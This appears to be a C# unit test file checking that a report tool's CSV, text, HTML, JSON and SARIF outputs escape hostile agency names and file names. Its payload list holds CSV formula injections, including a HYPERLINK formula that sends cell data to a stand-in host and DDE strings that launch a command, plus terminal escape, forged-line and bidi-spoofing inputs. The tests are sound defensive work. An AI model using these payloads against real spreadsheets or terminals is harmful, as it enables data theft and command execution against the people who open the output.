using System.Text;
using System.Text.Json;
using ReportRules.Cli.Formatting;
using ReportRules.Cli.Tests.TestSupport;
using ReportRules.Findings;
using ReportRules.Model;

namespace ReportRules.Cli.Tests.Hostile;

/// <summary>
/// Issue 13: report content and file names as the payload. A CSV text field never starts a formula; text, CSV and HTML
/// never carry a control or bidi character from an input (only the tool's own colour codes); JSON, JSON Lines and
/// SARIF stay valid and keep the payload exactly (escaped by the serializer).
/// </summary>
public sealed class OutputInjectionTests
{
    /// <summary>Payloads an attacker puts in a title (hence the agency) or a file name.</summary>
    public static TheoryData<string> Payloads() =>
    [
        "=HYPERLINK(\"http://evil.example/?\"&A1,\"点击\")",
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
        "\u001b]0;pwned\u0007\u001b[2J\u001b[31m测试县人民政府",
        "报告.txt\n  error   T3-F1   forged line",
        "测试\u202Etxt.exe\u202C县\u2066人民\u2069政府\u200F",
        "nul\0del\u007Fcsi\u009B",
    ];

    [Theory]
    [MemberData(nameof(Payloads))]
    public void Csv_PayloadInAgencyAndSource_IsTextWithoutControls(string payload)
    {
        var rows = CsvRows(Format(OutputFormat.Csv, Result(payload, payload)));

        Assert.True(rows.Count > 1);
        int source = Column(rows, "source"), agency = Column(rows, "agency");
        foreach (var row in rows.Skip(1))
        {
            AssertNoFormula(row[source]);
            AssertNoFormula(row[agency]);
            Assert.All(row, AssertNoUnsafe);
        }

        Assert.Contains(rows.Skip(1), r => r[agency] == Expected(payload));
        Assert.All(rows.Skip(1), r => Assert.Equal(Expected(payload), r[source]));
    }

    [Theory]
    [MemberData(nameof(Payloads))]
    public void Csv_UnreadableInputWithPayloadName_IsTextWithoutControls(string payload)
    {
        var rows = CsvRows(Format(OutputFormat.Csv, CheckResult.Unreadable(payload, payload + ": broken")));

        var row = Assert.Single(rows.Skip(1));
        Assert.Equal("unreadable", row[Column(rows, "outcome")]);
        Assert.Equal(Expected(payload), row[Column(rows, "source")]);
        AssertNoFormula(row[^1]);
        Assert.All(row, AssertNoUnsafe);
    }

    [Fact]
    public void Csv_NumbersStayNumbers()
    {
        var report = Reports.Table3Unbalanced("-x.txt").ToBuilder().SetRequest(RequestRow.CarriedForward, Applicant.Total, 5).Build();
        var rows = CsvRows(Format(OutputFormat.Csv, Reports.Checked(report)));

        int difference = Column(rows, "difference");
        var negative = rows.Skip(1).First(r => r[difference].StartsWith('-'));
        Assert.True(decimal.TryParse(negative[difference], System.Globalization.NumberStyles.Number, System.Globalization.CultureInfo.InvariantCulture, out _), negative[difference]);
        Assert.Equal("2019", negative[Column(rows, "year")]);
        Assert.Equal("'-x.txt", negative[Column(rows, "source")]);
    }

    [Theory]
    [MemberData(nameof(Payloads))]
    public void Text_PayloadInAgencySourceAndError_ShowsEscapesOnly(string payload)
    {
        foreach (var color in new[] { false, true })
        {
            var text = Format(OutputFormat.Text, Result(payload, payload), CheckResult.Unreadable(payload, payload + ": broken"), color: color);

            // The tool's own colour codes are the only escapes, and every line is one the tool wrote.
            var withoutColours = System.Text.RegularExpressions.Regex.Replace(text, "\u001b\\[[0-9;]*m", string.Empty, System.Text.RegularExpressions.RegexOptions.None, TimeSpan.FromSeconds(5));
            Assert.All(withoutColours.Replace("\n", string.Empty, StringComparison.Ordinal), c => Assert.False(OutputSafety.IsUnsafe(c), $"U+{(int)c:X4} in text output"));
            Assert.DoesNotContain(withoutColours.Split('\n'), l => l.Contains("forged line", StringComparison.Ordinal) && !l.Contains("\\u000A", StringComparison.Ordinal));
            Assert.Contains(OutputSafety.Visible(payload)!, text, StringComparison.Ordinal);
        }
    }

    [Theory]
    [MemberData(nameof(Payloads))]
    public void Html_PayloadInAgencySourceAndError_IsEscapedWithoutControls(string payload)
    {
        var html = Format(OutputFormat.Html, Result(payload, payload), CheckResult.Unreadable(payload, payload + ": broken"));

        Assert.All(html.Replace("\n", string.Empty, StringComparison.Ordinal), c => Assert.False(OutputSafety.IsUnsafe(c), $"U+{(int)c:X4} in HTML output"));
        Assert.Contains(System.Net.WebUtility.HtmlEncode(OutputSafety.Visible(payload)!), html, StringComparison.Ordinal);
    }

    [Theory]
    [MemberData(nameof(Payloads))]
    public void JsonJsonlSarif_PayloadInAgencyAndSource_StayValidAndExact(string payload)
    {
        using (var json = JsonDocument.Parse(Format(OutputFormat.Json, Result(payload, payload), CheckResult.Unreadable(payload, payload + ": broken"))))
        {
            var reports = json.RootElement.GetProperty("reports");
            Assert.Equal(payload, reports[0].GetProperty("source").GetString());
            Assert.Equal(payload, reports[0].GetProperty("agency").GetString());
            Assert.Equal(payload + ": broken", reports[1].GetProperty("error").GetString());
        }

        var lines = Format(OutputFormat.JsonLines, Result(payload, payload), CheckResult.Unreadable(payload, payload + ": broken")).Split('\n', StringSplitOptions.RemoveEmptyEntries);
        Assert.Equal(2, lines.Length);
        foreach (var line in lines)
        {
            using var document = JsonDocument.Parse(line);
            Assert.Equal(payload, document.RootElement.GetProperty("source").GetString());
        }

        var sarif = Format(OutputFormat.Sarif, Result(payload, payload), CheckResult.Unreadable(payload, payload + ": broken"));
        Assert.DoesNotContain(sarif, c => c < 0x20 && c is not '\n' and not '\r' and not ' ');
        using var parsed = JsonDocument.Parse(sarif);
        Assert.Equal("2.1.0", parsed.RootElement.GetProperty("version").GetString());
    }

    [Fact]
    public void Visible_EscapesEachUnsafeCharacterAndKeepsTheRest()
    {
        Assert.Equal("a\\u001B]0;t\\u0007b\\u000A\\u202Ec:\\x", OutputSafety.Visible("a\u001b]0;t\u0007b\n\u202Ec:\\x"));
        Assert.Equal("株洲市芦淞区", OutputSafety.Visible("株洲市芦淞区"));
        Assert.Null(OutputSafety.Visible(null));
        Assert.Equal("'=1", OutputSafety.CsvText("=1"));
        Assert.Equal("\\u0009=1", OutputSafety.CsvText("\t=1"));
        Assert.Equal("1-2", OutputSafety.CsvText("1-2"));
    }

    private static CheckResult Result(string agency, string source) =>
        Reports.Checked(Reports.Table3Unbalanced(source).ToBuilder().WithAgency(agency).Build());

    // What the CSV must hold for a payload: visible escapes, then a quote mark before a formula start.
    private static string Expected(string payload)
    {
        var visible = OutputSafety.Visible(payload)!;
        return "=+-@".Contains(visible[0], StringComparison.Ordinal) ? "'" + visible : visible;
    }

    /// <summary>The index of a column by its header name: the tests do not depend on the column order.</summary>
    private static int Column(List<string[]> rows, string name)
    {
        var index = Array.IndexOf(rows[0], name);
        Assert.True(index >= 0, $"no CSV column '{name}' in: {string.Join(',', rows[0])}");
        return index;
    }

    private static void AssertNoFormula(string field) =>
        Assert.False(field.Length > 0 && "=+-@\t\r".Contains(field[0], StringComparison.Ordinal), $"formula start in CSV field: {field}");

    private static void AssertNoUnsafe(string field) =>
        Assert.DoesNotContain(field, OutputSafety.IsUnsafe);

    private static string Format(string format, params CheckResult[] results) => Format(format, results[0], results.Length > 1 ? results[1] : null, false);

    private static string Format(string format, CheckResult first, CheckResult? second, bool color = false)
    {
        var output = new StringWriter();
        var summary = new RunSummary();
        using (var formatter = OutputFormat.Create(format, output, new FormatterSettings("en", color, false)))
        {
            formatter.Begin();
            foreach (var result in second is null ? [first] : new[] { first, second })
            {
                formatter.WriteReport(result);
                summary.Add(result);
            }

            formatter.End(summary);
        }

        return output.ToString();
    }

    /// <summary>RFC 4180 records (quoted fields may hold commas, quotes and line breaks).</summary>
    private static List<string[]> CsvRows(string csv)
    {
        var rows = new List<string[]>();
        var fields = new List<string>();
        var field = new StringBuilder();
        var quoted = false;
        for (var i = csv.Length > 0 && csv[0] == '\uFEFF' ? 1 : 0; i < csv.Length; i++)
        {
            var c = csv[i];
            if (quoted)
            {
                if (c == '"' && i + 1 < csv.Length && csv[i + 1] == '"')
                {
                    field.Append('"');
                    i++;
                }
                else if (c == '"')
                {
                    quoted = false;
                }
                else
                {
                    field.Append(c);
                }
            }
            else if (c == '"')
            {
                quoted = true;
            }
            else if (c == ',')
            {
                fields.Add(field.ToString());
                field.Clear();
            }
            else if (c == '\r' && i + 1 < csv.Length && csv[i + 1] == '\n')
            {
                fields.Add(field.ToString());
                field.Clear();
                rows.Add([.. fields]);
                fields.Clear();
                i++;
            }
            else
            {
                field.Append(c);
            }
        }

        return rows;
    }
}
